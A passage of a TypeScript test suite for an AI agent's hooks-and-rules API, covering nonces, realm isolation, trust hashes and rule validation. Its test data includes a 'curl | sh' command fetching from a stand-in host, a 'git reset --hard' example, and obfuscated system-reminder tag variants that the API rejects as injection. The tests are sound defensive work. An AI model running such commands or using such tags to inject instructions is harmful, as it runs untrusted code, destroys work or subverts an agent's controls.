import { existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { execFileSync } from "node:child_process";
import { afterAll, beforeAll, describe, test } from "vitest";
import {
  detailsOf,
  type DocumentAgent,
  type Json,
  openDocumentAgent,
  outcomeOf,
  textOf,
} from "../support/document-agent.ts";

/* What the published document of lifecycle hooks and rules promises, tried through the edge. */

const REALM = "67e89abc123def456789abcd";
const EVENTS = [
  "Notification",
  "PostToolUse",
  "PreCompact",
  "PreToolUse",
  "SessionEnd",
  "SessionStart",
  "Stop",
  "SubagentStart",
  "SubagentStop",
  "UserPromptSubmit",
];
let agent: DocumentAgent;
let count = 0;

beforeAll(async () => {
  agent = await openDocumentAgent({ realms: [REALM] });
}, 60_000);
afterAll(() => agent.close());

/** A folder of its own for one test, a session in it, and the paths of its two settings files. */
async function fresh(body: Json = {}) {
  count += 1;
  const cwd = join(agent.home, `work-${count}`);
  mkdirSync(cwd);
  const session = await agent.session({ cwd, ...body });
  const project = join(cwd, ".hoody/settings.json");
  return { cwd, session, project, local: join(cwd, ".hoody/settings.local.json") };
}

function save(path: string, content: string | Json): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, typeof content === "string" ? content : JSON.stringify(content));
}

function load(path: string): Json {
  return JSON.parse(readFileSync(path, "utf8")) as Json;
}

const HOOK = { event: "PreToolUse", matcher: "Bash", command: "exit 0" };
const LABELS = { name: "A hook", description: "Does nothing." };
const list = (session: string, query = "", headers: Record<string, string> = {}) =>
  agent.call("GET", `/hooks?session_id=${session}${query}`, { headers });
const upsert = (session: string, body: Json, scope?: string) =>
  agent.write("PUT", "/hooks", "upsert", session, body, scope);
const setRules = (session: string, body: Json, scope?: string) =>
  agent.write("POST", "/hooks/rules", "rules_set", session, body, scope);
const getRules = async (headers: Record<string, string> = {}) => {
  const answer = await agent.call("GET", "/hooks/rules", { headers });
  return { answer, rules: answer.json["rules"] as Json };
};
const revisionOf = (rules: Json, scope: string): unknown =>
  (rules["scopes"] as Json[]).find((one) => one["scope"] === scope)?.["revision"];

const WRITES: readonly (readonly [method: string, path: string])[] = [
  ["POST", "/hooks/reload"],
  ["POST", "/hooks/begin-write"],
  ["POST", "/hooks/rules"],
  ["PUT", "/hooks"],
  ["DELETE", "/hooks"],
  ["POST", "/hooks/toggle"],
  ["POST", "/hooks/disable-all"],
  ["POST", "/hooks/test"],
  ["POST", "/hooks/trust/ack"],
];

test.for(WRITES)(
  "%s %s has no realm, no container, absolute folders",
  async ([method, path], { expect }) => {
    const { session } = await fresh();
    const send = (query: string, headers: Record<string, string>) =>
      agent.call(method, path + query, { body: { session_id: session }, headers });
    for (const answer of [
      await send("?realm=global", {}),
      await send("", { "x-hoody-realm": "global" }),
      await send("", { "x-hoody-realm": REALM }),
      await send("", { "x-hoody-container": "other" }),
    ]) {
      expect(outcomeOf(answer)).toEqual([400, "realm_scope_unsupported"]);
    }
    for (const name of ["x-hoody-cwd", "x-hoody-config-dir"]) {
      expect(outcomeOf(await send("", { [name]: "here" }))).toEqual([400, "bad_request"]);
    }
  },
);

test.for(WRITES.slice(1))(
  "%s %s wants a session that lives",
  async ([method, path], { expect }) => {
    const body = {
      ...HOOK,
      nonce: "0".repeat(32),
      op: "upsert",
      scope: "project",
      value: true,
      rules: [],
      hash: "0".repeat(32),
    };
    const without = await agent.call(method, path, { body });
    expect(outcomeOf(without)).toEqual([400, "bad_request"]);
    const unknown = await agent.call(method, path, { body: { ...body, session_id: "sess_none" } });
    expect(outcomeOf(unknown)).toEqual([404, "not_found"]);
  },
);

describe("listing and reloading", () => {
  test("the list is one object of the session, and no page", async ({ expect }) => {
    const { session, project, local } = await fresh();
    await upsert(session, { ...HOOK, ...LABELS, timeout: 60 });
    const { json } = await list(session);
    expect(json).toMatchObject({
      session,
      stale: [],
      files: { user: join(agent.home, ".hoody/settings.json"), project, local },
      trust: {
        hash: expect.stringMatching(/^[0-9a-f]{32}$/) as unknown,
        needs_ack: true,
        high_risk: false,
      },
    });
    expect((json["live"] as Json[])[0]).toMatchObject({
      ...HOOK,
      ...LABELS,
      timeout: 60,
      disabled: false,
    });
    expect(json).not.toHaveProperty("items");
    expect(json["rules"]).toMatchObject({ live: [], session: [], scopes: {} });
  });

  test("it names a session that lives in the realm that is asked for", async ({ expect }) => {
    const { session } = await fresh();
    const scoped = await agent.session({ realm: REALM });
    for (const [id, query, headers, status, code] of [
      [session, "", {}, 200, undefined],
      [session, "&realm=global", {}, 200, undefined],
      [session, "", { "x-hoody-realm": "global" }, 200, undefined],
      [session, "", { "x-hoody-realm": REALM }, 404, "not_found"],
      [session, `&realm=${REALM}`, {}, 404, "not_found"],
      [session, `&realm=${"a".repeat(24)}`, {}, 404, "not_found"],
      [session, `&realm=${REALM}`, { "x-hoody-realm": "global" }, 200, undefined],
      [scoped, "", { "x-hoody-realm": REALM }, 200, undefined],
      [scoped, "&realm=global", {}, 404, "not_found"],
      [session, "&realm=everywhere", {}, 400, "invalid_realm"],
      ["", "", {}, 400, "bad_request"],
      ["sess_none", "", {}, 404, "not_found"],
    ] as const) {
      const answer = await list(id, query, headers);
      expect([query, headers, answer.status, answer.json["code"]]).toEqual([
        query,
        headers,
        status,
        code,
      ]);
    }
    expect(outcomeOf(await agent.call("GET", "/hooks"))).toEqual([400, "bad_request"]);
  });

  test("files that changed are shown as drift until they are read again", async ({ expect }) => {
    const { session, project, local } = await fresh();
    save(project, {
      version: 1,
      hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "true" }] }] },
    });
    const drifted = (await list(session)).json;
    expect(drifted["stale"]).toMatchObject([
      { scope: "project", path: project, reason: "created" },
    ]);
    expect(JSON.stringify(drifted["live"])).not.toContain('"true"');
    expect(drifted["on_disk"]).toMatchObject([{ command: "true", source: project }]);
    const one = await agent.call("POST", "/hooks/reload", {
      body: { session_id: session, _x: 1, other: 2 },
    });
    expect(one.json).toMatchObject({
      reloaded: true,
      session,
      stale: [],
      trust: { needs_ack: true },
    });
    expect((one.json["live"] as Json[])[0]).toMatchObject({ command: "true", matcher: "*" });
    save(local, { version: 1 });
    for (const call of [{}, { body: {} }]) {
      const all = await agent.call("POST", "/hooks/reload", call);
      expect(all.json).toMatchObject({ reloaded: true });
      expect(all.json).not.toHaveProperty("live");
      expect(all.json).not.toHaveProperty("session");
    }
    expect((await list(session)).json["stale"]).toEqual([]);
    const gone = await agent.call("POST", "/hooks/reload", { body: { session_id: "sess_none" } });
    expect(outcomeOf(gone)).toEqual([404, "not_found"]);
  });
});

describe("guarded writes", () => {
  test("a nonce is for one write of its session, operation and scope", async ({ expect }) => {
    const { session, project } = await fresh();
    const begun = await agent.call("POST", "/hooks/begin-write", {
      body: { session_id: session, op: "toggle", scope: "project" },
    });
    expect(begun.json).toEqual({
      nonce: expect.any(String) as unknown,
      op: "toggle",
      scope: "project",
      session_id: session,
      expires_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/) as unknown,
    });
    expect(Date.parse(String(begun.json["expires_at"]))).toBeGreaterThan(Date.now());
    for (const body of [
      { session_id: session, op: "erase", scope: "project" },
      { session_id: session, op: "toggle", scope: "everywhere" },
      { session_id: session, op: "toggle" },
      { session_id: session, scope: "project" },
    ]) {
      expect(outcomeOf(await agent.call("POST", "/hooks/begin-write", { body }))).toEqual([
        400,
        "bad_request",
      ]);
    }
    const put = (nonce: string | undefined, body: Json = {}) =>
      agent.call("PUT", "/hooks", {
        body: { session_id: session, nonce, scope: "project", ...HOOK, ...LABELS, ...body },
      });
    const mine = await agent.nonce(session, "upsert");
    for (const answer of [
      await put(undefined),
      await put("0".repeat(32)),
      await put(String(begun.json["nonce"])),
      await put(mine, { session_id: (await fresh()).session }),
      await put(await agent.nonce(session, "upsert", "local")),
    ]) {
      expect(outcomeOf(answer)).toEqual([400, "bad_request"]);
      expect(detailsOf(answer)["field"]).toBe("nonce");
    }
    expect(existsSync(project)).toBe(false);
    expect((await put(mine)).json).toEqual({ ok: true, ...HOOK, scope: "project", created: true });
    expect(outcomeOf(await put(mine))).toEqual([400, "bad_request"]);
    const unsaid = await put(await agent.nonce(session, "upsert"), { scope: undefined });
    expect(unsaid.json).toMatchObject({ ok: true, scope: "project", created: false });
  });

  test("a nonce is for the file that its scope meant, not for what lies there later", async ({
    expect,
  }) => {
    const { cwd, session } = await fresh();
    const nonce = await agent.nonce(session, "upsert");
    const elsewhere = join(agent.home, `swapped-${count}`);
    mkdirSync(elsewhere);
    symlinkSync(elsewhere, join(cwd, ".hoody"));
    const put = (used: string) =>
      agent.call("PUT", "/hooks", {
        body: { session_id: session, nonce: used, scope: "project", ...HOOK, ...LABELS },
      });
    const answer = await put(nonce);
    expect(outcomeOf(answer)).toEqual([400, "bad_request"]);
    expect(detailsOf(answer)["field"]).toBe("nonce");
    expect(existsSync(join(elsewhere, "settings.json"))).toBe(false);
    // with what is there now it works
    expect((await put(await agent.nonce(session, "upsert"))).status).toBe(200);
    expect(existsSync(join(elsewhere, "settings.json"))).toBe(true);
  });

  test("a closed session's nonces are void, and twenty uses at once are one", async ({
    expect,
  }) => {
    const { session, project } = await fresh();
    const nonce = await agent.nonce(session, "upsert");
    const answers = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        agent.call("PUT", "/hooks", {
          body: { session_id: session, nonce, ...HOOK, ...LABELS, command: `echo ${i}` },
        }),
      ),
    );
    expect(answers.filter(({ status }) => status === 200)).toHaveLength(1);
    expect(answers.filter(({ status }) => status === 400)).toHaveLength(19);
    const groups = (load(project)["hooks"] as { PreToolUse: { hooks: unknown[] }[] }).PreToolUse;
    expect(groups.flatMap((group) => group.hooks)).toHaveLength(1);
    const late = await agent.nonce(session, "delete");
    await agent.call("POST", `/sessions/${session}/close`);
    const closed = await agent.call("DELETE", "/hooks", {
      body: { session_id: session, nonce: late, event: HOOK.event },
    });
    expect(outcomeOf(closed)).toEqual([404, "not_found"]);
  });

  test(
    "every lifecycle event is taken, and nothing else",
    { timeout: 20_000 },
    async ({ expect }) => {
      const { session } = await fresh();
      for (const event of EVENTS) {
        const answer = await upsert(session, { event, command: "true", ...LABELS });
        expect([event, answer.json["created"], answer.json["matcher"]]).toEqual([event, true, "*"]);
      }
      for (const event of ["preToolUse", "Anything", "", 7, null]) {
        const said = { ...HOOK, ...LABELS, event };
        for (const answer of [
          await upsert(session, said),
          await agent.write("DELETE", "/hooks", "delete", session, said),
          await agent.write("POST", "/hooks/toggle", "toggle", session, said),
          await agent.call("POST", "/hooks/test", { body: { session_id: session, ...said } }),
        ]) {
          expect([event, ...outcomeOf(answer)]).toEqual([event, 400, "bad_request"]);
        }
      }
    },
  );

  test("a hook is its event, matcher and command; what a call leaves out stays", async ({
    expect,
  }) => {
    const { session, project } = await fresh();
    for (const wrong of [
      { ...HOOK },
      { ...HOOK, name: "only" },
      { ...HOOK, description: "only" },
      { ...HOOK, ...LABELS, name: " " },
      { ...HOOK, ...LABELS, command: "" },
      { ...HOOK, ...LABELS, command: undefined },
      { ...HOOK, ...LABELS, timeout: 1.5 },
      { ...HOOK, ...LABELS, timeout: -1 },
      { ...HOOK, ...LABELS, timeout: "60" },
      { ...HOOK, ...LABELS, matcher: "(" },
    ]) {
      expect(outcomeOf(await upsert(session, wrong))).toEqual([400, "bad_request"]);
    }
    expect(existsSync(project)).toBe(false);
    const stored = async () => (await list(session)).json["live"] as Json[];
    await upsert(session, { ...HOOK, ...LABELS, timeout: 90_000 });
    expect((await stored())[0]).toMatchObject({ ...LABELS, timeout: 86_400 });
    expect((await upsert(session, { ...HOOK })).json).toMatchObject({ created: false });
    expect((await upsert(session, { ...HOOK, description: "New." })).json).toMatchObject({
      created: false,
    });
    expect((await stored())[0]).toMatchObject({
      name: LABELS.name,
      description: "New.",
      timeout: 86_400,
    });
    expect((await upsert(session, { ...HOOK, timeout: 0 })).status).toBe(200);
    expect((await stored())[0]).toMatchObject({ timeout: 0 });
    const edited = await upsert(session, { ...HOOK, ...LABELS, command: "exit 1" });
    expect(edited.json).toMatchObject({ created: true });
    for (const matcher of ["*", "", undefined]) {
      const any = await upsert(session, { ...HOOK, ...LABELS, matcher });
      expect(any.json).toMatchObject({ matcher: "*", created: matcher === "*" });
    }
    expect((await stored()).filter((hook) => hook["shipped_id"] === undefined)).toHaveLength(3);

    const remove = (body: Json) => agent.write("DELETE", "/hooks", "delete", session, body);
    expect(outcomeOf(await remove({ ...HOOK, command: "exit 9" }))).toEqual([404, "not_found"]);
    expect((await remove({ event: HOOK.event })).json).toMatchObject({ matcher: "*", removed: 1 });
    expect((await remove({ event: HOOK.event, matcher: "Bash" })).json).toMatchObject({
      removed: 2,
    });
    expect((await stored()).filter((hook) => hook["shipped_id"] === undefined)).toEqual([]);
    expect(load(project)).toEqual({ version: 1 });
  });

  test("a toggle changes a stored hook, never makes one, and knows the catalogue by id", async ({
    expect,
  }) => {
    const { session, project } = await fresh();
    const toggle = (body: Json, scope?: string) =>
      agent.write("POST", "/hooks/toggle", "toggle", session, body, scope);
    expect(outcomeOf(await toggle({ ...HOOK, disabled: true }))).toEqual([404, "not_found"]);
    expect((await toggle({ ...HOOK, disabled: true })).json["message"]).toBe("no hook found");
    expect(existsSync(project)).toBe(false);
    await upsert(session, { ...HOOK, ...LABELS, timeout: 7 });
    expect((await toggle({ ...HOOK, disabled: true, enabled: true })).json).toEqual({
      ok: true,
      ...HOOK,
      scope: "project",
      disabled: true,
    });
    expect((await list(session)).json["live"]).toContainEqual(
      expect.objectContaining({ ...HOOK, ...LABELS, timeout: 7, disabled: true }),
    );
    expect((await toggle(HOOK)).json).toMatchObject({ disabled: false });
    for (const body of [{}, { event: HOOK.event }, { command: HOOK.command }]) {
      expect(outcomeOf(await toggle(body))).toEqual([400, "bad_request"]);
    }

    const shipped = { shipped_id: "destructive-git" };
    for (const body of [
      shipped,
      { ...shipped, enabled: "true" },
      { ...shipped, enabled: true, event: HOOK.event },
      { ...shipped, enabled: true, matcher: "*" },
      { ...shipped, enabled: true, command: "x" },
    ]) {
      expect(outcomeOf(await toggle(body, "user"))).toEqual([400, "bad_request"]);
    }
    const user = join(agent.home, ".hoody/settings.json");
    expect(
      (await toggle({ ...shipped, enabled: true, disabled: true }, "user")).json,
    ).toMatchObject({
      ok: true,
      ...shipped,
      enabled: true,
    });
    expect(load(user)).toMatchObject({ shipped_hooks: { "destructive-git": true } });
    expect((await list(session)).json["live"]).toContainEqual(
      expect.objectContaining({ ...shipped, disabled: false }),
    );
    expect((await toggle({ ...shipped, enabled: false }, "user")).status).toBe(200);
    expect(load(user)).not.toHaveProperty("shipped_hooks");
    expect(outcomeOf(await toggle({ shipped_id: "none", enabled: true }, "user"))).toEqual([
      404,
      "not_found",
    ]);
  });

  test("the switch for all hooks is set by true, cleared by false, and nothing else", async ({
    expect,
  }) => {
    const { cwd, session, project } = await fresh();
    await upsert(session, { ...HOOK, ...LABELS, command: "echo stopped >&2; exit 2" });
    const { trust } = (await list(session)).json as { trust: Json };
    await agent.call("POST", "/hooks/trust/ack", {
      body: { session_id: session, hash: trust["hash"] },
    });
    const run = async () =>
      outcomeOf(await agent.runIn(session, "bash", { params: { cmd: "true" } }));
    const all = (body: Json) =>
      agent.write("POST", "/hooks/disable-all", "set_disabled", session, body);
    expect(await run()).toEqual([200, true]);
    expect((await all({ value: true })).json).toEqual({
      ok: true,
      scope: "project",
      value: true,
      disableAllHooks: true,
    });
    expect(load(project)["disableAllHooks"]).toBe(true);
    for (const body of [{}, { value: null }, { value: "false" }, { value: 0 }]) {
      expect(outcomeOf(await all(body))).toEqual([400, "bad_request"]);
    }
    expect(await run()).toEqual([200, false]);
    expect((await all({ value: false })).json).toMatchObject({
      value: false,
      disableAllHooks: false,
    });
    expect(load(project)).not.toHaveProperty("disableAllHooks");
    expect(await run()).toEqual([200, true]);
    // the same through a run without a session
    const bare = await agent.run("bash", { params: { cmd: "true" } }, { "x-hoody-cwd": cwd });
    expect([outcomeOf(bare), textOf(bare)]).toEqual([[200, true], "stopped"]);
  });
});

describe("test-firing and trust", () => {
  const fire = (session: string, body: Json) =>
    agent.call("POST", "/hooks/test", { body: { session_id: session, ...body } });

  test("an unsaved command runs now and is told about", async ({ expect }) => {
    const { cwd, session } = await fresh();
    const answer = await fire(session, {
      event: "PreToolUse",
      match_value: "Bash",
      command: "cat; echo no >&2; touch fired; exit 2",
      timeout: 30,
      payload: {
        tool_name: "bash",
        session_id: "x",
        cwd: "/",
        hook_event_name: "x",
        hook_test: false,
      },
    });
    expect(answer.json).toMatchObject({
      ok: true,
      event: "PreToolUse",
      match_value: "Bash",
      command: "cat; echo no >&2; touch fired; exit 2",
      exit_code: 2,
      stderr: "no\n",
      duration_ms: expect.any(Number) as unknown,
      fired: true,
    });
    expect(JSON.parse(String(answer.json["stdout"]))).toMatchObject({
      tool_name: "bash",
      session_id: session,
      cwd,
      hook_event_name: "PreToolUse",
      hook_test: true,
    });
    expect(existsSync(join(cwd, "fired"))).toBe(true);
    const slow = await fire(session, { event: "Stop", command: "sleep 50", timeout: 1 });
    expect(slow.json).toMatchObject({ exit_code: null, timed_out: true });
    for (const timeout of [1.5, -1, 0, "1", null]) {
      const odd = await fire(session, { event: "Stop", command: "sleep 0.1", timeout });
      expect([timeout, odd.json["exit_code"]]).toEqual([timeout, 0]);
    }
    expect(outcomeOf(await fire(session, { command: "true" }))).toEqual([400, "bad_request"]);
  });

  test("without a command the saved hooks that fit are fired", async ({ expect }) => {
    const { session } = await fresh();
    for (const [matcher, command] of [
      ["Bash", "echo one"],
      ["bash|write_file", "echo two"],
      ["Write", "echo three"],
    ]) {
      await upsert(session, { ...HOOK, ...LABELS, matcher, command });
    }
    const answer = await fire(session, { event: "PreToolUse", match_value: "Bash" });
    expect(answer.json).toMatchObject({
      ok: true,
      fired: true,
      command: "echo one",
      stdout: "one\n",
    });
    expect(answer.json["results"]).toMatchObject([{ stdout: "one\n" }, { stdout: "two\n" }]);
    const none = await fire(session, { event: "Stop" });
    expect(none.json).toMatchObject({ fired: false, exit_code: null });
  });

  test("a shipped hook is asked and nothing runs", async ({ expect }) => {
    const { cwd, session } = await fresh();
    for (const [body, would] of [
      [{ shipped_id: "destructive-git", event: "Nothing" }, true],
      [{ shipped_id: "destructive-git", command: "git reset --hard; touch ran" }, true],
      [{ shipped_id: "destructive-git", command: "git status; touch ran" }, false],
      [{ shipped_id: "bash-usage-error" }, true],
      [{ shipped_id: "bash-usage-error", command: "ls --what", exit_code: 0 }, false],
    ] as const) {
      const answer = await fire(session, body);
      expect([body, answer.status, answer.json["would_dispatch"]]).toEqual([body, 200, would]);
    }
    expect(existsSync(join(cwd, "ran"))).toBe(false);
    expect(outcomeOf(await fire(session, { shipped_id: "none" }))).toEqual([404, "not_found"]);
  });

  test("what a repository brings waits for its hash, and only the current one is taken", async ({
    expect,
  }) => {
    const { cwd, session, project } = await fresh();
    await upsert(session, { ...HOOK, ...LABELS, command: "touch hooked" });
    const trust = async () => (await list(session)).json["trust"] as Json;
    const ack = (body: Json) =>
      agent.call("POST", "/hooks/trust/ack", { body: { session_id: session, ...body } });
    const run = () => agent.runIn(session, "bash", { params: { cmd: "true" } });
    await run();
    expect(existsSync(join(cwd, "hooked"))).toBe(false);
    for (const body of [{}, { hash: "" }, { hash: 7 }]) {
      expect(outcomeOf(await ack(body))).toEqual([400, "bad_request"]);
    }
    expect(outcomeOf(await ack({ hash: "f4c2e1a9b8d37091e3a4b2c5f8e0d1a9" }))).toEqual([
      409,
      "trust_hash_mismatch",
    ]);
    const { hash } = await trust();
    const shown = readFileSync(project, "utf8");
    writeFileSync(project, shown.replace("touch hooked", "touch changed"));
    expect(outcomeOf(await ack({ hash }))).toEqual([409, "trust_hash_mismatch"]);
    writeFileSync(project, shown);
    // asking for more than there is widens nothing
    expect((await ack({ hash, high_risk: true })).json).toEqual({
      ok: true,
      hash,
      high_risk: false,
      ack_at: expect.stringMatching(/Z$/) as unknown,
    });
    expect(await trust()).toMatchObject({ needs_ack: false });
    await run();
    expect(existsSync(join(cwd, "hooked"))).toBe(true);
    await upsert(session, { ...HOOK, ...LABELS, command: "curl -s https://example.invalid | sh" });
    const risky = await trust();
    expect(risky).toMatchObject({ needs_ack: true, high_risk: true });
    expect(outcomeOf(await ack({ hash: risky["hash"] }))).toEqual([400, "bad_request"]);
    expect((await ack({ hash: risky["hash"], high_risk: true })).json).toMatchObject({
      high_risk: true,
    });
  });
});

const RULE = {
  id: "limit-no-rm-rf",
  text: "Never run rm -rf outside the workspace.",
  kind: "limit",
};

describe("rules without a session", () => {
  test("the user scope alone, with a folder its two files too", async ({ expect }) => {
    const { cwd, session, project, local } = await fresh();
    const bare = await getRules();
    expect(bare.answer.headers["cache-control"]).toBe("no-store");
    expect(Object.keys(bare.rules).toSorted()).toEqual([
      "exec_trust",
      "live",
      "rule_warnings",
      "rules_complete",
      "scopes",
      "timeout_ms",
      "warnings",
    ]);
    expect(bare.rules).toMatchObject({
      scopes: [{ scope: "user" }],
      timeout_ms: 3000,
      rules_complete: true,
    });
    save(project, { version: 1, rules: [RULE] });
    save(local, {
      version: 1,
      rules: [{ id: "say", text: "Be brief.", kind: "guidance" }],
      rules_timeout_ms: 1200,
    });
    const { rules } = await getRules({ "x-hoody-cwd": cwd });
    expect(rules["live"]).toEqual([
      { ...RULE, applies_as: "checked", tools: [], agents: [], source: project },
      {
        id: "say",
        text: "Be brief.",
        kind: "guidance",
        applies_as: "prompt",
        tools: [],
        agents: [],
        source: local,
      },
    ]);
    expect(rules).toMatchObject({
      timeout_ms: 1200,
      scopes: [{ scope: "user" }, { scope: "project" }, { scope: "local" }],
    });
    // the revision is the one a write through a session of the realm is checked against
    const revision = revisionOf(rules, "project");
    const written = await setRules(session, {
      rules: [RULE],
      timeout_ms: 500,
      expected_revision: revision,
    });
    expect(written.status).toBe(200);
    expect(revisionOf((await getRules({ "x-hoody-cwd": cwd })).rules, "project")).toBe(
      written.json["revision"],
    );
  });

  test("a folder in place of the realm's has no user scope", async ({ expect }) => {
    const { cwd } = await fresh();
    const other = join(cwd, "other");
    save(join(other, "settings.json"), { version: 1, rules: [RULE] });
    const { rules } = await getRules({ "x-hoody-config-dir": other });
    expect(rules).toMatchObject({
      live: [{ id: RULE.id, source: join(other, "settings.json") }],
      scopes: [{ scope: "project" }, { scope: "local" }],
    });
    for (const headers of [{ "x-hoody-cwd": "a/b" }, { "x-hoody-config-dir": "./.hoody" }]) {
      expect(outcomeOf((await getRules(headers)).answer)).toEqual([400, "bad_request"]);
    }
  });

  test("what cannot be read is left out and said", async ({ expect }) => {
    const { cwd, project, local } = await fresh();
    save(local, { version: 1, rules: [RULE] });
    const spoil: readonly (readonly [string, () => void])[] = [
      ["a pipe", () => execFileSync("mkfifo", [project])],
      ["a folder", () => mkdirSync(project)],
      ["a link", () => symlinkSync(local, project)],
      [
        "more than 4 MiB",
        () => save(project, `{"version":1,"x":"${"x".repeat(4 * 1024 * 1024)}"}`),
      ],
      ["no JSON", () => save(project, "{")],
      ["another version", () => save(project, { version: 2, rules: [RULE] })],
      ["no version", () => save(project, { rules: [RULE] })],
    ];
    for (const [name, make] of spoil) {
      execFileSync("rm", ["-rf", project]);
      make();
      const { answer, rules } = await getRules({ "x-hoody-cwd": cwd });
      expect([name, answer.status, rules["rules_complete"]]).toEqual([name, 200, false]);
      expect(rules["live"]).toMatchObject([{ source: local }]);
      expect(rules["warnings"]).toHaveLength(1);
      expect(rules["rule_warnings"]).toEqual(rules["warnings"]);
      const skipped = name.endsWith("version");
      expect(revisionOf(rules, "project") !== undefined).toBe(skipped);
    }
    execFileSync("rm", ["-rf", project]);
    save(project, {
      version: 1,
      hooks: { Whenever: [], PreToolUse: [{ matcher: "(", hooks: [] }] },
      rules_timeout_ms: 7,
    });
    const { rules } = await getRules({ "x-hoody-cwd": cwd });
    expect(rules["warnings"]).toHaveLength(3);
    expect(rules).toMatchObject({ rule_warnings: [], rules_complete: true, timeout_ms: 3000 });
  });

  test("realms keep to their own profile", async ({ expect }) => {
    const mine = join(agent.home, ".hoody/realms", REALM, "settings.json");
    save(mine, { version: 1, rules: [{ ...RULE, id: "of-the-realm" }] });
    const scoped = { "x-hoody-realm": REALM };
    expect((await getRules(scoped)).rules["live"]).toMatchObject([
      { id: "of-the-realm", source: mine },
    ]);
    expect((await agent.call("GET", `/hooks/rules?realm=${REALM}`)).json["rules"]).toMatchObject({
      live: [{ id: "of-the-realm" }],
    });
    expect((await getRules()).rules["live"]).toEqual([]);
    expect(outcomeOf((await getRules({ "x-hoody-realm": "a".repeat(24) })).answer)).toEqual([
      404,
      "not_found",
    ]);
    expect(outcomeOf((await getRules({ "x-hoody-realm": "all" })).answer)).toEqual([
      400,
      "invalid_realm",
    ]);
    expect(outcomeOf((await getRules({ "x-hoody-container": "c" })).answer)).toEqual([
      400,
      "realm_scope_unsupported",
    ]);
    // another realm's profile, reached by a link or by standing at or above the home, is never read
    const linked = join(agent.home, "linked");
    mkdirSync(linked);
    symlinkSync(dirname(mine), join(linked, ".hoody"));
    const project = (await getRules({ "x-hoody-cwd": linked })).rules;
    expect(project).toMatchObject({ live: [], scopes: [{ scope: "user" }], rules_complete: false });
    const override = await getRules({ "x-hoody-config-dir": dirname(mine) });
    expect(outcomeOf(override.answer)).toEqual([404, "not_found"]);
    save(join(dirname(agent.home), ".hoody/settings.json"), { version: 1, rules: [RULE] });
    for (const cwd of [agent.home, dirname(agent.home)]) {
      const { rules } = await getRules({ ...scoped, "x-hoody-cwd": cwd });
      expect(rules).toMatchObject({
        live: [{ id: "of-the-realm" }],
        scopes: [{ scope: "user" }],
        rules_complete: false,
      });
      expect(rules["warnings"]).toHaveLength(2);
      const session = await agent.session({ cwd, realm: REALM });
      expect((await list(session)).json["rules"]).toMatchObject({
        session: [{ id: "of-the-realm" }],
      });
    }
  });

  test("the change token moves with the files, whoever lives", async ({ expect }) => {
    const cwd = join(agent.home, "unvisited");
    const token = async () => {
      const { json } = await agent.call("GET", "/changes", { headers: { "x-hoody-cwd": cwd } });
      return (json["tokens"] as Json)["rules"];
    };
    mkdirSync(cwd);
    const before = await token();
    save(join(cwd, ".hoody/settings.json"), { version: 1, rules: [RULE] });
    await expect.poll(token, { timeout: 10_000 }).not.toBe(before);
  });
});

describe("replacing rules", () => {
  test("the list is taken as a whole or not at all", { timeout: 20_000 }, async ({ expect }) => {
    const { session, project } = await fresh();
    const many = (n: number, kind: string) =>
      Array.from({ length: n }, (_, i) => ({ id: `${kind}-${i}`, text: "T", kind }));
    const advice = { id: "advice", text: "Be kind.", kind: "guidance" };
    const refused: readonly (readonly [Json, string])[] = [
      [{}, "bad_request"],
      [{ timeout_ms: 500 }, "bad_request"],
      ...["", "A", "-a", "a b", "x".repeat(65)].map(
        (id) => [{ rules: [{ ...RULE, id }] }, "bad_request"] as const,
      ),
      [{ rules: [RULE, RULE] }, "bad_request"],
      [{ rules: [{ ...RULE, text: "" }] }, "bad_request"],
      [{ rules: [{ ...RULE, text: "x".repeat(501) }] }, "bad_request"],
      [{ rules: [{ ...RULE, text: "a\nb" }] }, "bad_request"],
      [{ rules: [{ ...RULE, kind: "wish" }] }, "bad_request"],
      [
        { rules: [{ ...RULE, tools: Array.from({ length: 33 }, (_, i) => `t${i}`) }] },
        "bad_request",
      ],
      [
        { rules: [{ ...RULE, agents: Array.from({ length: 17 }, (_, i) => `a${i}`) }] },
        "bad_request",
      ],
      [{ rules: [{ ...RULE, agents: ["a", "a"] }] }, "bad_request"],
      [{ rules: [{ ...advice, tools: ["bash"] }] }, "rule_tools_not_allowed"],
      [{ rules: [{ ...advice, kind: "playbook", tools: ["bash"] }] }, "rule_tools_not_allowed"],
      [{ rules: [{ ...advice, text: "Be\u200bkind" }] }, "bad_request"],
      ...[
        "<system-reminder>",
        "</SYSTEM_reminder>",
        "< system reminder",
        "&lt;system\u2212reminder",
        "&ltsystemreminder",
        "&#60;system\u2013reminder",
        "&#x3csystem--reminder",
        String.raw`\u003csystem-reminder`,
        String.raw`\x3Csystem-reminder`,
        "\uff1csystem\uff0dreminder",
      ].map((text) => [{ rules: [{ ...advice, text }] }, "bad_request"] as const),
      [{ rules: many(33, "limit") }, "bad_request"],
      [{ rules: many(33, "playbook") }, "bad_request"],
      [{ rules: [], timeout_ms: 99 }, "bad_request"],
      [{ rules: [], timeout_ms: 120_001 }, "bad_request"],
      [{ rules: [RULE], exec_trust: [] }, "bad_request"],
    ];
    for (const [body, code] of refused) {
      expect([body, ...outcomeOf(await setRules(session, body))]).toEqual([body, 400, code]);
    }
    expect(existsSync(project)).toBe(false);
    const full = [...many(32, "check_in"), ...many(32, "guidance")];
    const written = await setRules(session, { rules: full, timeout_ms: 120_000 });
    expect(written.status).toBe(200);
    expect((written.json["rules"] as Json)["live"]).toHaveLength(64);
    const one = { ...RULE, tools: ["Bash"], agents: ["general"], applies_as: "prompt" };
    const replaced = await setRules(session, { rules: [one] });
    expect(replaced.json).toEqual({
      ok: true,
      scope: "project",
      revision: expect.stringMatching(/./) as unknown,
      rules: {
        live: [{ ...one, applies_as: "checked", source: project }],
        timeout_ms: 120_000,
      },
    });
    expect((await list(session)).json["rules"]).toMatchObject({
      live: [{ applies_as: "checked" }],
    });
    const emptied = await setRules(session, { rules: [], timeout_ms: 0 });
    expect(emptied.json).toMatchObject({ rules: { live: [], timeout_ms: 3000 } });
    expect(load(project)).toEqual({ version: 1 });
    expect(statSync(project).mode & 0o077).toBe(0);
  });

  test("a revision that is no longer the file's is a conflict that changes nothing", async ({
    expect,
  }) => {
    const { cwd, session, project } = await fresh();
    const read = async () => revisionOf((await getRules({ "x-hoody-cwd": cwd })).rules, "project");
    const first = await read();
